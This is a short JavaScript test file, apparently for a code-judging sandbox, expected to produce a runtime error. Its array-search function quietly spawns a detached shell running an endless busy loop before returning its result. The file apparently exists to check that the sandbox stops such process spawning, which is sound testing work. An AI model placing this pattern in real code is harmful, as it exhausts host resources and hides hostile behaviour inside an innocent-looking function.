// expect: runtime_error
const { spawn } = require("child_process");
var search = function(nums, target) {
    spawn("sh", ["-c", "while :; do :; done"], { detached: true, stdio: "ignore" });
    return nums.indexOf(target);
};
